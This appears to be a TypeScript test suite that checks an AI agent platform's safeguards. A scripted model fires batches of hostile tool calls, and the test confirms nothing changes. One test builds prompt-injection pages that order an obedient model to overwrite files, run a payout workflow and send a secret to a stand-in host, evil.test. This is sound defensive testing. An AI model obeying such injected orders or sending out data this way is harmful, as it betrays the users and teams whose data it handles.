// Two hundred attacks by a model that always tries: whatever it calls, nothing happens that the agent may not do.
// Each kind is one run of a real agent whose model makes 25 calls at once. Afterwards the data is compared with the
// data before.
import { env } from 'cloudflare:workers'
import { beforeAll, expect, inject, test } from 'vitest'
import { callHash } from '../../../../src/nodes/ai/inner/call.ts'
import { post } from '../../../helpers/api.ts'
import { eventually } from '../../../helpers/changes.ts'
import { newPerson, type Person } from '../../../helpers/people.ts'
import { newSpec, runOf } from '../../../helpers/runs.ts'
import { upload } from '../../files/support/files.ts'
import { newIntegration, newModelServer } from '../../integrations/integrations.ts'
import {
  type Attack,
  CHANGED,
  ENDLESS,
  EXFILTRATION,
  FORBIDDEN,
  INTERNAL,
  otherTeams,
  POISONING,
  PRETEXTS,
  type World,
} from './tables.ts'

const target = inject('httpTarget')
const host = new URL(target).host

let person: Person
let victim: Person
let world: World

const file = async (as: Person, name: string, text: string) =>
  (await upload(as, name, text)).body as { id: string; name: string }

beforeAll(async () => {
  ;[person, victim] = [await newPerson(), await newPerson()]
  await newModelServer(person)
  const definition = { nodes: [{ id: 'a', type: 'flow.noop' }] }
  const workflow = await post('/api/v1/workflows', victim, { name: 'Payout', key: 'payout', definition })
  const theirFile = await file(victim, 'shared/secret.txt', 'the secret of the others')
  await file(person, 'shared/note.txt', 'a note')
  const { id: integrationId } = await newIntegration(victim)
  world = {
    host,
    theirs: {
      fileId: theirFile.id,
      fileName: theirFile.name,
      workflowId: workflow.body.id,
      workflowKey: 'payout',
      userId: victim.userId,
      integrationId,
      teamId: victim.teamId,
    },
  }
})

const TOOLS = [
  { name: 'http.request', config: { hosts: [host] } },
  { name: 'web.read', config: { hosts: [host] } },
  { name: 'files.read', config: { prefix: 'shared/' } },
  { name: 'files.write', config: { prefix: 'out/' } },
  { name: 'workflow.run', config: { workflows: ['report'] } },
  { name: 'notify', policy: 'ask' },
]

let runs = 0

async function attack(
  model: string,
  said: unknown,
  tools: object[] = TOOLS,
  more: object = {},
  waitMs = 60_000,
) {
  const params = {
    agent: {
      tools,
      models: [{ provider: 'openai-compatible', model: `${model}~attack-${person.teamId}-${runs++}` }],
    },
    prompt: typeof said === 'string' ? said : JSON.stringify(said),
    ...more,
  }
  const spec = newSpec(
    { nodes: [{ id: 'it', type: 'ai.agent', params }] },
    { teamId: person.teamId, startedBy: person.userId },
  )
  const answer = await runOf(spec.runId).start(spec, { waitMs })
  if (!answer.ok) throw new Error(answer.reason)
  return answer.run
}

type Result = { toolName: string; output: { type: string; value: unknown } }
const resultsOf = async (runId: string, path = 'it.tool'): Promise<Result[]> =>
  ((await runOf(runId).node(path))?.output ?? []) as Result[]

/** Everything that an attack could change, in both teams. */
async function things(): Promise<unknown> {
  const of = (sql: string) => env.DB.prepare(sql).bind(JSON.stringify([person.teamId, victim.teamId]))
  const inTeams = 'team_id IN (SELECT value FROM json_each(?1))'
  const answers = await env.DB.batch([
    of(`SELECT id, name, version, deleted_at FROM files WHERE ${inTeams} ORDER BY id`),
    of(`SELECT * FROM store_entries WHERE ${inTeams} ORDER BY team_id, key`),
    of(`SELECT id FROM notifications WHERE ${inTeams} ORDER BY id`),
    of(`SELECT id, version FROM workflows WHERE ${inTeams} ORDER BY id`),
    of(`SELECT id FROM runs WHERE ${inTeams} AND kind <> 'agent' AND workflow_id IS NOT NULL ORDER BY id`),
    of(`SELECT id, version FROM integrations WHERE ${inTeams} ORDER BY id`),
  ])
  return answers.map(({ results }) => results)
}

const filled = (attacks: readonly Attack[]): Attack[] =>
  JSON.parse(
    JSON.stringify(attacks).replaceAll('{host}', host).replaceAll('{run}', `attack-${person.teamId}`),
  )

async function expectNothing(attacks: readonly Attack[], tools?: object[]): Promise<void> {
  expect(attacks).toHaveLength(25)
  const before = await things()
  const run = await attack('say', filled(attacks), tools)
  // None waits for consent, because only valid calls are asked about.
  expect(run).toMatchObject({ status: 'succeeded' })
  const results = await resultsOf(run.id)
  expect(results.map(({ output }) => output.type)).toEqual(attacks.map(() => 'error-text'))
  expect(await things()).toEqual(before)
}

test('the agent can do what is allowed, so that the attacks prove something', async () => {
  const run = await attack('say', [
    { name: 'http.request', args: { url: `${target}/echo` } },
    { name: 'files.read', args: { file: 'shared/note.txt' } },
  ])
  expect((await resultsOf(run.id)).map(({ output }) => output.type)).toEqual(['json', 'json'])
})

test('25 tools that the agent does not have are not called', () =>
  expectNothing(FORBIDDEN, [...TOOLS, { name: 'store.set', policy: 'deny' }]))

test("25 ways to another team's data lead nowhere", () => expectNothing(otherTeams(world)))

test('25 internal addresses are not called', () => expectNothing(INTERNAL))

test('25 ways to send out data send nothing', async () => {
  await expectNothing(EXFILTRATION)
  const seen = await (await fetch(`${target}/seen/attack-${person.teamId}-sent`)).json()
  expect(seen).toEqual([])
})

test('25 ways to poison stored data store nothing', () =>
  expectNothing(POISONING, [...TOOLS, { name: 'store.set' }]))

test('25 results and pages with instructions for an obedient model achieve nothing', async () => {
  const before = await things()
  const orders = [
    { name: 'store.set', args: { key: 'owned', value: 1 } },
    { name: 'files.write', args: { name: 'shared/note.txt', text: 'owned' } },
    { name: 'http.request', args: { url: 'https://evil.test/?q=secret' } },
    { name: 'workflow.run', args: { workflow: 'payout' } },
  ]
  const outcomes = await Promise.all(
    PRETEXTS.map(async (pretext, index) => {
      const page = pretext.replace('{calls}', JSON.stringify(orders))
      const base64 = btoa(String.fromCharCode(...new TextEncoder().encode(page)))
      // The model sees the text of a page, without comments.
      const isPage = index % 2 === 1 && !pretext.includes('<!--')
      const url = `${target}/typed/${index}?type=${encodeURIComponent(isPage ? 'text/html' : 'text/plain')}&base64=${encodeURIComponent(base64)}`
      const run = await attack('obey', [{ name: isPage ? 'web.read' : 'http.request', args: { url } }])
      const obeyed = await resultsOf(run.id, 'it.tool~2')
      return [run.status, obeyed.map(({ output }) => output.type).join()]
    }),
  )
  expect(outcomes).toEqual(PRETEXTS.map(() => ['succeeded', orders.map(() => 'error-text').join()]))
  expect(await things()).toEqual(before)
})

test('25 calls that were changed after consent need consent again, and a changed call waits for its own', async () => {
  expect(CHANGED).toHaveLength(25)
  const agent = { id: 'agt_1', version: 1, name: 'A' }
  for (const [before, after] of CHANGED) {
    const hash = (value: unknown) =>
      callHash(agent, { name: 'store.set', input: { key: 'k', value } as never })
    expect(hash(after)).not.toBe(hash(before))
  }
  const call = (value: number) => [{ name: 'store.set', args: { key: `paid-${person.teamId}`, value } }]
  const consent = [{ name: 'store.set', policy: 'ask' }]
  const run = await attack('always', [call(10), call(100)], consent, { limits: { steps: 2 } }, 0)
  /** The approval that the run waits for, once it is another one. */
  const nextApproval = (before?: string | null) =>
    eventually(async () => {
      const name = (await runOf(run.id).view({}))?.waitingFor[0]?.name
      if (name == null || name === before) throw new Error('The run does not ask yet')
      return name
    })
  const decide = (name: string, decision: 'approve' | 'reject') =>
    runOf(run.id).decide({
      approvalId: name,
      by: 'usr_other',
      decision,
      comment: null,
      data: null,
      isStarter: false,
    })
  const stored = async () =>
    (
      await env.DB.prepare('SELECT value FROM store_entries WHERE team_id = ? AND key = ?')
        .bind(person.teamId, `agents/paid-${person.teamId}`)
        .first<{ value: string }>()
    )?.value
  const first = await nextApproval()
  await decide(first, 'approve')
  const second = await nextApproval(first)
  expect(String(await stored())).toBe('10')
  // The given consent does not apply to the changed call.
  await decide(first, 'approve')
  expect(String(await stored())).toBe('10')
  await decide(second, 'reject')
  expect((await runOf(run.id).view({}, 60_000))?.status).toBe('succeeded')
  expect(String(await stored())).toBe('10')
})

test('25 endless loops are ended by their limits', async () => {
  expect(ENDLESS).toHaveLength(25)
  const tools = [{ name: 'calculator' }, { name: 'date' }]
  for (let from = 0; from < ENDLESS.length; from += 5)
    await Promise.all(
      ENDLESS.slice(from, from + 5).map(async ({ calls, limits, ends, most }) => {
        const run = await attack('always', calls, tools, { limits })
        const reached = run.status === 'failed' ? { finishReason: 'error' } : run.output
        const { finishReason } = reached as { finishReason: string }
        expect(ends).toContain(finishReason)
        const { nodes = [] } = (await runOf(run.id).nodes({ limit: 1_000 })) ?? {}
        const made = nodes.filter(({ path, status }) => /\.call$/.test(path) && status === 'succeeded').length
        expect(made).toBeLessThanOrEqual(most)
      }),
    )
})
